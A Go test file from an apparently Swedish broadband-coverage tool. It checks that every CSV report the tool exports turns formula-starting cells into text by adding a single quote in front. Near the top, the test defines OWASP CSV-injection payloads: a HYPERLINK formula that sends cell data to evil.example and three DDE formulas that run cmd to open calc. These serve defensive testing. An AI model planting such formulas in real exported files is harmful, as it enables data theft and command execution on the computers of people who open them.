package main

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gigakoll/gigakoll/geo"
	"github.com/gigakoll/gigakoll/measure"
	"github.com/gigakoll/gigakoll/migrations/dbtest"
)

// formulas are cells a spreadsheet would run: OWASP's CSV injection, one
// for each first character (=, +, -, @).
var formulas = []string{`=HYPERLINK("http://evil.example/?x="&A1;"klicka")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`}

// Every CSV the product writes (the gap report, the targets report, the
// residents' measurements) shows a text cell that begins with =, +, - or @
// as text: with a single quote in front, never as it came. The text comes
// from an imported file (streets, numbers, localities, operators, address
// ids) and from the municipalities' names in the database.
func TestEveryCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	pool, dbURL := dbtest.NewWithURL(t)
	ctx := context.Background()
	dir := t.TempDir()

	var b strings.Builder
	b.WriteString("address_id;municipality_code;x;y;households;workplaces;technology;status;down_mbps;street;number;postcode;locality;operator\n")
	for i, f := range formulas {
		q := strings.ReplaceAll(f, `"`, `""`)
		// each formula as every text field of one point; none has 1 Gbit/s, so every point is in the gap report
		b.WriteString(`"` + q + `";0880;58301` + string(rune('0'+i)) + `;6280260;2;0;dsl;connected;24;"` + q + `";"` + q +
			`";39231;"` + q + `";"` + q + "\"\n")
	}
	file := filepath.Join(dir, "hostile.csv")
	if err := os.WriteFile(file, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := gigakoll(ctx, dbURL, "import", "coverage", file, "--as-of", "2024-10-01").CombinedOutput(); err != nil {
		t.Fatalf("import: %v\n%s", err, out)
	}
	// A municipality's name, as the reference data might hold it.
	if _, err := pool.Exec(ctx, `UPDATE municipalities SET name = $1 WHERE code = '0880'`, formulas[0]); err != nil {
		t.Fatal(err)
	}
	// Five residents' measurements in Kalmar, so that its figures are published.
	var ms []measure.Measurement
	for i := range measure.MinPublished {
		ms = append(ms, measure.Measurement{MeasuredAt: time.Now().Add(-time.Hour), Square: geo.Square{E: 583000, N: 6280250, Size: 250},
			Municipality: measure.Municipality{Code: "0880"}, DownMbps: float64(10 + i), UpMbps: 5, Connection: "dsl", Source: "api"})
	}
	if _, err := measure.NewStore(pool).Load(ctx, ms); err != nil {
		t.Fatal(err)
	}

	for _, tt := range []struct {
		name string
		args []string
		want []string // the formulas the file must hold, neutralised
	}{
		{"gap report", []string{"report", "gaps", "--municipality", "0880", "--format", "csv"}, formulas},
		{"targets report", []string{"report", "targets", "--format", "csv"}, formulas[:1]},
		// Its names come from the boundaries embedded in the binary, not
		// the database: no outside text reaches it, and none begins a formula.
		{"measurements", []string{"report", "measurements", "--format", "csv"}, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			out, err := gigakoll(ctx, dbURL, tt.args...).Output()
			if err != nil {
				t.Fatalf("%v: %v", tt.args, err)
			}
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(out), "\uFEFF")))
			r.Comma, r.FieldsPerRecord = ';', -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatalf("not CSV: %v\n%s", err, out)
			}
			found := map[string]bool{}
			for i, row := range rows {
				for j, cell := range row {
					for _, f := range formulas {
						switch {
						case cell == f:
							t.Errorf("line %d, column %d: %q as it came: a spreadsheet runs it", i+1, j+1, cell)
						case cell == "'"+f:
							found[f] = true
						}
					}
					if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
						t.Errorf("line %d, column %d: %q begins a formula", i+1, j+1, cell)
					}
				}
			}
			for _, f := range tt.want {
				if !found[f] {
					t.Errorf("the file lacks %q neutralised:\n%.1500s", f, out)
				}
			}
		})
	}
}
